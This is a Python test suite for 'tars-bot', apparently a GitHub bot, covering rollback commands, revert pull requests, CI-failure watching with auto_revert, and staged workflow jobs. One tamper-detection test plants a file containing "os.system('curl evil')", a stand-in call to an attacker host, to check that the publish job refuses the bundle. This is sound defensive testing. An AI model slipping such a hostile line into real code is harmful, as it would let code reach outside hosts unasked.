"""After the merge on GitHub: `/tars-bot rollback` on a merged pull request opens its revert pull
request; a watched CI workflow that turns red where a tars-bot change landed is reported on it
(and, with auto_revert, answered with the revert), once per run, and lifted by a later green run.
Each job works in a fresh clone of `origin`, as Actions' jobs do."""

from __future__ import annotations

import json
from pathlib import Path

from tars_bot.system import ExecutionSystem
from tests.helpers import (
    ISSUE_IMPROVEMENT,
    comment_payload,
    commit_files,
    git,
    job_checkout,
    run_action,
    stage,
)

WATCH = '[tool.tars-bot]\nwatch_workflows = ["ci"]\nauto_revert = true\n'


def seed(tmp_path: Path) -> Path:
    """A maintainer's clone, up to date with origin's main."""
    clone = tmp_path / "seed"
    git(clone, "fetch", "-q", "origin")
    git(clone, "checkout", "-q", "main")
    git(clone, "reset", "-q", "--hard", "origin/main")
    return clone


def push_main(tmp_path: Path, files: dict[str, str], message: str) -> str:
    clone = seed(tmp_path)
    sha = commit_files(clone, files, message)
    git(clone, "push", "-q", "origin", "HEAD:main")
    return sha


def executed(fake_github, tmp_path: Path, origin: Path, repo, name: str = "execute-job"):
    """`/tars-bot execute` on a new improvement issue: its pull request."""
    issue = repo.add_issue("UTF-8 IO", ISSUE_IMPROVEMENT)
    payload = comment_payload(repo, issue.number, "/tars-bot execute")
    checkout = job_checkout(origin, name)
    assert run_action(fake_github, tmp_path, checkout, "issue_comment", payload) == 0
    [pull] = repo.pulls()
    return pull


def merge_on_github(tmp_path: Path, repo, pull, kind: str) -> str:
    """The merge button: a merge commit, or a squash whose message the maintainer rewrote
    (tars-bot's trailers gone); after someone else's commit. Returns the new main."""
    clone = seed(tmp_path)
    commit_files(clone, {"other.txt": "someone else's work\n"}, "unrelated work")
    branch = f"origin/{pull.head_ref}"
    if kind == "merge":
        git(clone, "merge", "--no-ff", "-q", "-m", f"Merge pull request #{pull.number}", branch)
    else:
        git(clone, "merge", "--squash", "-q", branch)
        git(clone, "commit", "-q", "-m", f"Read files as UTF-8 (#{pull.number})")
    git(clone, "push", "-q", "origin", "HEAD:main")
    sha = git(clone, "rev-parse", "HEAD")
    repo.merge_pull(pull, sha)
    return sha


def execution_of(origin: Path, tmp_path: Path, name: str):
    """The journal as a new job sees it."""
    system = ExecutionSystem(job_checkout(origin, name))
    system.fetch_journal()
    return system


def test_rollback_on_a_merged_pull_request_opens_its_revert(setup, fake_github, tmp_path):
    _, origin, repo = setup
    pull = executed(fake_github, tmp_path, origin, repo)
    merged = merge_on_github(tmp_path, repo, pull, "merge")

    payload = comment_payload(repo, pull.number, "/tars-bot rollback")
    checkout = job_checkout(origin, "rollback-job")
    assert run_action(fake_github, tmp_path, checkout, "issue_comment", payload) == 0
    assert git(origin, "rev-parse", "main") == merged  # never pushed to the default branch

    revert = next(p for p in repo.pulls() if p.number != pull.number)
    assert revert.title == "Revert tars-bot: UTF-8 IO" and revert.base_ref == "main"
    assert f"/pull/{pull.number}" in revert.body  # linked to the original
    branch = revert.head_ref
    assert branch.startswith("tars-bot/revert-")
    assert (
        git(origin, "show", f"{branch}:src/io.py")
        == "def load(path):\n    return open(path).read()"
    )
    assert git(origin, "ls-tree", "--name-only", branch, "NOTES.md") == ""
    assert git(origin, "show", f"{branch}:other.txt") == "someone else's work"  # later work kept
    status = repo.comments_on(pull.number)[-1].body
    assert "↩️ Reverting execution" in status and f"/pull/{revert.number}" in status

    system = execution_of(origin, tmp_path, "look")
    original = system.history()[-1]
    assert original.state == "reverted" and original.landed.kind == "merge"
    assert system.status(original.reverted_by).reverts == original.id


def test_a_squash_with_a_rewritten_message_is_known_from_github(setup, fake_github, tmp_path):
    _, origin, repo = setup
    pull = executed(fake_github, tmp_path, origin, repo)
    squash = merge_on_github(tmp_path, repo, pull, "squash")
    assert "Tars-Execution" not in git(origin, "log", "-1", "--format=%B", "main")

    payload = comment_payload(repo, pull.number, "/tars-bot rollback --step 2")
    checkout = job_checkout(origin, "rollback-job")
    assert run_action(fake_github, tmp_path, checkout, "issue_comment", payload) == 0
    revert = next(p for p in repo.pulls() if p.number != pull.number)
    assert revert.title == "Revert tars-bot: UTF-8 IO (step 2)"
    assert git(origin, "ls-tree", "--name-only", revert.head_ref, "NOTES.md") == ""
    assert "encoding='utf-8'" in git(origin, "show", f"{revert.head_ref}:src/io.py")  # step 1 kept

    original = execution_of(origin, tmp_path, "look").history()[-1]
    # git finds it by patch identity before GitHub is asked (tests/test_squash_identity.py)
    assert original.landed.kind == "squash" and original.landed.found_by == "git"
    assert original.landed.commit == squash


def watched_merge(fake_github, tmp_path, origin, repo):
    push_main(tmp_path, {"pyproject.toml": WATCH}, "watch CI")
    pull = executed(fake_github, tmp_path, origin, repo)
    merged = merge_on_github(tmp_path, repo, pull, "merge")
    return pull, merged, git(origin, "rev-parse", f"{merged}^1")


def watch_comments(repo, pull) -> list[str]:
    return [c.body for c in repo.comments_on(pull.number) if "tars-bot:watch-run=" in c.body]


def test_a_merge_that_turns_ci_red_is_reported_and_reverted_once(setup, fake_github, tmp_path):
    _, origin, repo = setup
    pull, merged, before = watched_merge(fake_github, tmp_path, origin, repo)
    repo.add_workflow_run(before, "success")
    failed = repo.add_workflow_run(merged, "failure")

    for attempt in range(2):  # GitHub may deliver an event twice
        checkout = job_checkout(origin, f"watch-{attempt}")
        assert run_action(fake_github, tmp_path, checkout, "workflow_run", failed) == 0
    [report] = watch_comments(repo, pull)
    assert "⚠️ `CI` failed on" in report and failed["workflow_run"]["html_url"] in report
    reverts = [p for p in repo.pulls() if p.title.startswith("Revert tars-bot")]
    assert len(reverts) == 1 and reverts[0].state == "open"
    assert "tars-bot opened its revert (`auto_revert`): " in report
    assert report.split("(`auto_revert`): ")[1].startswith(
        f"https://github.com/octo/app/pull/{reverts[0].number}"
    )

    # a later green run of the same workflow lifts the suspicion, and withdraws the revert
    later = push_main(tmp_path, {"fix.txt": "the real cause, fixed\n"}, "fix the flaky test")
    green = repo.add_workflow_run(later, "success")
    assert (
        run_action(
            fake_github, tmp_path, job_checkout(origin, "watch-green"), "workflow_run", green
        )
        == 0
    )
    assert "passed again" in repo.comments_on(pull.number)[-1].body
    assert reverts[0].state == "closed"
    assert git(origin, "branch", "--list", reverts[0].head_ref) == ""
    system = execution_of(origin, tmp_path, "look")
    original = next(
        e for e in system.history() if e.pull_request and f"/pull/{pull.number}" in e.pull_request
    )
    assert original.suspected is None and original.state == "merged"


def test_a_red_run_that_is_not_on_a_tars_bot_merge_or_was_red_before_does_nothing(
    setup,
    fake_github,
    tmp_path,
):
    _, origin, repo = setup
    pull, merged, before = watched_merge(fake_github, tmp_path, origin, repo)
    repo.add_workflow_run(before, "failure")  # already red before the merge
    red_before = repo.add_workflow_run(merged, "failure")
    assert (
        run_action(fake_github, tmp_path, job_checkout(origin, "w1"), "workflow_run", red_before)
        == 0
    )
    other = push_main(tmp_path, {"x.txt": "x\n"}, "someone's commit")
    repo.add_workflow_run(merged, "success")
    not_ours = repo.add_workflow_run(other, "failure")
    assert (
        run_action(fake_github, tmp_path, job_checkout(origin, "w2"), "workflow_run", not_ours) == 0
    )
    assert watch_comments(repo, pull) == []
    assert len(repo.pulls()) == 1  # no revert


def test_the_staged_workflow_watches_in_its_publish_job(setup, fake_github, tmp_path):
    _, origin, repo = setup
    pull, merged, before = watched_merge(fake_github, tmp_path, origin, repo)
    repo.add_workflow_run(before, "success")
    failed = repo.add_workflow_run(merged, "failure")
    event = "workflow_run"
    assert stage(fake_github, tmp_path, job_checkout(origin, "a"), "authorize", failed, event) == 0
    assert (tmp_path / "output-authorize").read_text() == "act=true\nexecute=false\n"
    assert stage(fake_github, tmp_path, job_checkout(origin, "p"), "publish", failed, event) == 0
    assert len(watch_comments(repo, pull)) == 1


def test_the_staged_workflow_reverts_in_its_execute_job_and_publishes_what_it_checked(
    setup,
    fake_github,
    tmp_path,
):
    _, origin, repo = setup
    pull = executed(fake_github, tmp_path, origin, repo)
    merged = merge_on_github(tmp_path, repo, pull, "merge")
    payload = comment_payload(repo, pull.number, "/tars-bot rollback")
    assert stage(fake_github, tmp_path, job_checkout(origin, "a"), "authorize", payload) == 0
    assert (tmp_path / "output-authorize").read_text() == "act=true\nexecute=true\n"
    written = len(fake_github.requests)
    runner = job_checkout(origin, "x")
    assert stage(fake_github, tmp_path, runner, "execute", payload) == 0
    assert {r.method for r in fake_github.requests[written:]} == {"GET"}  # it wrote nothing
    assert git(origin, "for-each-ref", "refs/heads/tars-bot/revert-*") == ""
    assert stage(fake_github, tmp_path, job_checkout(origin, "p"), "publish", payload) == 0

    [revert] = [p for p in repo.pulls() if p.number != pull.number]
    assert revert.title == "Revert tars-bot: UTF-8 IO"
    assert git(origin, "rev-parse", revert.head_ref) == git(runner, "rev-parse", revert.head_ref)
    assert git(origin, "rev-parse", "main") == merged
    assert "↩️ Reverting execution" in repo.comments_on(pull.number)[-1].body
    original = execution_of(origin, tmp_path, "look").history()[-1]
    assert original.state == "reverted"


def test_a_revert_bundle_that_is_not_the_revert_is_refused(setup, fake_github, tmp_path):
    _, origin, repo = setup
    pull = executed(fake_github, tmp_path, origin, repo)
    merge_on_github(tmp_path, repo, pull, "merge")
    payload = comment_payload(repo, pull.number, "/tars-bot rollback")
    assert stage(fake_github, tmp_path, job_checkout(origin, "a"), "authorize", payload) == 0
    runner = job_checkout(origin, "x")
    assert stage(fake_github, tmp_path, runner, "execute", payload) == 0
    # the execute job ran what the revert's checks run: it could have made anything. Here it
    # slipped in a commit of its own on the revert branch and bundled that.
    [branch] = git(
        runner, "for-each-ref", "--format=%(refname:short)", "refs/heads/tars-bot/revert-*"
    ).split()
    git(runner, "checkout", "-q", branch)
    commit_files(runner, {"src/io.py": "import os\nos.system('curl evil')\n"}, "sneaky")
    git(runner, "checkout", "-q", "main")
    handoff = tmp_path / "handoff"
    execution_id = json.loads(
        git(runner, "show", f"refs/tars-bot/executions/{_only_revert(runner)}:execution.json")
    )["id"]
    ExecutionSystem(runner).hand_off(execution_id, handoff / "execution.bundle")
    assert stage(fake_github, tmp_path, job_checkout(origin, "p"), "publish", payload) == 1
    assert "was refused, so nothing was pushed" in repo.comments_on(pull.number)[-1].body
    assert git(origin, "for-each-ref", "refs/heads/tars-bot/revert-*") == ""
    assert len(repo.pulls()) == 1


def _only_revert(checkout: Path) -> str:
    refs = git(
        checkout, "for-each-ref", "--format=%(refname:lstrip=3)", "refs/tars-bot/executions/"
    )
    return next(
        r
        for r in refs.split()
        if json.loads(git(checkout, "show", f"refs/tars-bot/executions/{r}:execution.json")).get(
            "reverts"
        )
    )


def test_a_red_run_on_a_rewritten_squash_is_traced_through_github(setup, fake_github, tmp_path):
    _, origin, repo = setup
    push_main(tmp_path, {"pyproject.toml": WATCH.replace("true", "false")}, "watch CI")
    pull = executed(fake_github, tmp_path, origin, repo)
    squash = merge_on_github(tmp_path, repo, pull, "squash")  # no trailer names the execution
    repo.add_workflow_run(git(origin, "rev-parse", f"{squash}^"), "success")
    failed = repo.add_workflow_run(squash, "failure")
    for attempt in range(2):
        checkout = job_checkout(origin, f"watch-{attempt}")
        assert run_action(fake_github, tmp_path, checkout, "workflow_run", failed) == 0
    [report] = watch_comments(repo, pull)
    assert "(squash `" in report and "comment `/tars-bot rollback` here" in report
    assert fake_github.calls("GET", f"/repos/octo/app/commits/{squash}/pulls")
    assert len(repo.pulls()) == 1  # auto_revert is off
